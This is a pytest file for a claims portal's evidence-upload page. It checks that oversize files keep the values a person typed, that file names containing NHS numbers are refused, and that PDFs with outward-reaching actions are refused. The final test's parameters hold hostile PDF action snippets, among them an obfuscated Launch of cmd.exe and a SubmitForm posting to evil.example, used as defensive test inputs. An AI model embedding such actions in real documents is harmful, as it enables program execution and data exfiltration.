"""Evidence files through the claim page (issue 10): a file too large keeps what was typed,
whether it reaches the view (over 5 MB) or is stopped by the request limit; file names with an
NHS number and PDFs with actions reaching outside are refused with their reason."""

from __future__ import annotations

import html
import re

import pytest
from sqlalchemy import select

from claims_portal.claims.models import Claim, ClaimEvidence
from claims_portal.claims.views import editing
from tests.claims.evidence import samples
from tests.claims.helpers import start, stored_files
from tests.claims.test_evidence_pages import post_multipart
from tests.claims.test_pages import error_links, form_of, reload, text
from tests.factories.claims import claim_scene
from tests.helpers import sign_in

FIVE_MB = 5 * 1024 * 1024
TOO_LARGE = "The selected file must be smaller than 5MB"


@pytest.fixture
def scene(db_session):
    return claim_scene(questions=True)


@pytest.fixture
def draft(db_session, scene):
    claim = start(db_session, scene)
    db_session.commit()
    return claim


@pytest.fixture
def values(draft):
    """What the person types: read before signing in (a request ends the scene's session)."""
    return typed(draft)


@pytest.fixture
def practice(client, scene, draft, values):
    sign_in(client, scene.user.email)
    return client


def real_pdf_of(size: int) -> bytes:
    """A real PDF (reportlab) padded with a comment line to exactly ``size`` bytes."""
    document = samples.pdf()
    header, rest = document.split(b"\n", 1)
    padding = size - len(document) - 2
    return header + b"\n%" + b"x" * padding + b"\n" + rest


def typed(claim: Claim) -> dict[str, str]:
    """Units on both lines and an answer to each question."""
    number, yes_no, free_text = sorted(claim.scheme.questions, key=lambda q: q.display_order)
    return {
        f"units-{claim.lines[0].id}": "17",
        f"units-{claim.lines[1].id}": "4",
        f"answer-{number.id}": "3",
        f"answer-{yes_no.id}": "yes",
        f"answer-{free_text.id}": "Two clinics ran late",
    }


def _inputs(page: str, name: str) -> list[str]:
    return [tag for tag in re.findall(r"<input\b[^>]*>", page) if f'name="{name}"' in tag]


def assert_typed_values_are_shown(page: str, values: dict[str, str]) -> None:
    for name, value in values.items():
        if value == "yes":
            (chosen,) = [tag for tag in _inputs(page, name) if 'value="yes"' in tag]
            assert "checked" in chosen, name
        elif _inputs(page, name):
            (tag,) = _inputs(page, name)
            assert f'value="{value}"' in tag, name
        else:
            textarea = re.search(rf'<textarea[^>]*name="{name}"[^>]*>(.*?)</textarea>', page, re.S)
            assert textarea, name
            assert textarea.group(1).strip() == html.escape(value), name


def _rows(session, claim):
    session.expire_all()
    return session.scalars(select(ClaimEvidence).where(ClaimEvidence.claim_id == claim.id)).all()


def test_the_pdf_helper_makes_a_real_pdf_of_the_size_asked(real_files):
    data = real_pdf_of(FIVE_MB + 1)
    assert len(data) == FIVE_MB + 1
    assert data.startswith(b"%PDF-")
    assert b"%%EOF" in data[-1024:]


@pytest.mark.parametrize("action", ["upload", "save", "check"])
def test_a_file_of_5_mb_and_one_byte_keeps_what_was_typed(
    practice, db_session, draft, evidence_dir, action, values
):
    page = practice.get(f"/claims/{draft.id}/edit")
    form = form_of(page, action=action, **values)
    response = post_multipart(
        practice, f"/claims/{draft.id}/edit", form, "scan.pdf", real_pdf_of(FIVE_MB + 1)
    )
    assert response.status_code == 400
    page_text = text(response)
    assert ("#evidence-file", TOO_LARGE) in error_links(page_text)
    assert_typed_values_are_shown(page_text, values)
    assert _rows(db_session, draft) == []
    assert reload(db_session, draft).lines[0].units is None
    assert stored_files(evidence_dir) == []


@pytest.mark.parametrize("action", ["upload", "save", "check"])
def test_a_request_over_the_limit_keeps_what_was_typed(
    app, practice, db_session, draft, evidence_dir, action, values
):
    page = practice.get(f"/claims/{draft.id}/edit")
    form = form_of(page, action=action, **values)
    data = real_pdf_of(app.config["MAX_CONTENT_LENGTH"] + 1)
    response = post_multipart(practice, f"/claims/{draft.id}/edit", form, "scan.pdf", data)
    assert response.status_code == 413
    page_text = text(response)
    assert error_links(page_text)[0] == ("#evidence-file", TOO_LARGE)
    assert_typed_values_are_shown(page_text, values)
    assert _rows(db_session, draft) == []
    claim = reload(db_session, draft)
    assert claim.lines[0].units is None  # nothing saved: the person chooses a smaller file
    assert stored_files(evidence_dir) == []
    # The page works on: the same figures with a file that fits are saved.
    form = form_of(practice.get(f"/claims/{draft.id}/edit"), action="upload", **values)
    saved = post_multipart(
        practice, f"/claims/{draft.id}/edit", form, "scan.pdf", real_pdf_of(200_000)
    )
    assert saved.status_code == 302
    assert reload(db_session, draft).lines[0].units == 17


def test_a_request_too_large_even_to_read_still_says_why(practice, draft, monkeypatch, app, values):
    monkeypatch.setattr(editing, "OVERSIZE_READ_LIMIT", app.config["MAX_CONTENT_LENGTH"] + 1024)
    page = practice.get(f"/claims/{draft.id}/edit")
    form = form_of(page, action="upload", **values)
    data = real_pdf_of(app.config["MAX_CONTENT_LENGTH"] + 4096)
    response = post_multipart(practice, f"/claims/{draft.id}/edit", form, "scan.pdf", data)
    assert response.status_code == 302
    assert response.headers["Location"] == f"/claims/{draft.id}/edit?error=too-large"
    again = practice.get(response.headers["Location"])
    assert error_links(text(again)) == [("#evidence-file", TOO_LARGE)]


def test_an_oversize_request_with_a_bad_form_token_changes_nothing(
    app, practice, db_session, draft, values
):
    form = form_of(practice.get(f"/claims/{draft.id}/edit"), action="save", **values)
    form["csrf_token"] = "forged"
    data = real_pdf_of(app.config["MAX_CONTENT_LENGTH"] + 1)
    response = post_multipart(practice, f"/claims/{draft.id}/edit", form, "scan.pdf", data)
    assert response.status_code == 302
    assert response.headers["Location"].endswith("?error=too-large")
    assert reload(db_session, draft).lines[0].units is None


def test_an_oversize_request_signed_out_is_not_read(app, client, draft):
    data = real_pdf_of(app.config["MAX_CONTENT_LENGTH"] + 1)
    response = post_multipart(
        client, f"/claims/{draft.id}/edit", {"action": "upload"}, "scan.pdf", data
    )
    assert response.status_code == 302
    assert "units" not in response.get_data(as_text=True)


def test_a_file_named_with_an_nhs_number_is_refused_and_its_name_never_shown(
    practice, db_session, draft, real_files, evidence_dir, values
):
    form = form_of(practice.get(f"/claims/{draft.id}/edit"), action="upload", **values)
    response = post_multipart(
        practice,
        f"/claims/{draft.id}/edit",
        form,
        "patient 943 476 5919.pdf",
        real_files["scan.pdf"],
    )
    assert response.status_code == 400
    page = text(response)
    assert error_links(page) == [
        (
            "#evidence-file",
            "The file name must not include patient details such as an NHS number. Rename "
            "the file and upload it again",
        )
    ]
    assert "943 476 5919" not in page
    assert_typed_values_are_shown(page, values)
    assert _rows(db_session, draft) == []
    assert stored_files(evidence_dir) == []


@pytest.mark.parametrize(
    ("action", "reason"),
    [
        (b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>", "This PDF has links that open other"),
        (b"<< /S /L#61unch /F (cmd.exe) >>", "This PDF can start other programs"),
        (b"<< /S /SubmitForm /F (https://evil.example/) >>", "sends what is typed in it"),
        (b"<< /S /ImportData /F (data.fdf) >>", "reads data from another file"),
    ],
)
def test_a_pdf_with_an_action_reaching_outside_is_refused_on_the_page(
    practice, db_session, draft, evidence_dir, action, reason
):
    form = form_of(practice.get(f"/claims/{draft.id}/edit"), action="upload")
    response = post_multipart(
        practice, f"/claims/{draft.id}/edit", form, "claim.pdf", samples.pdf_document(action)
    )
    assert response.status_code == 400
    ((href, message),) = error_links(text(response))
    assert href == "#evidence-file"
    assert reason in message
    assert "Print it to a new PDF" in message
    assert _rows(db_session, draft) == []
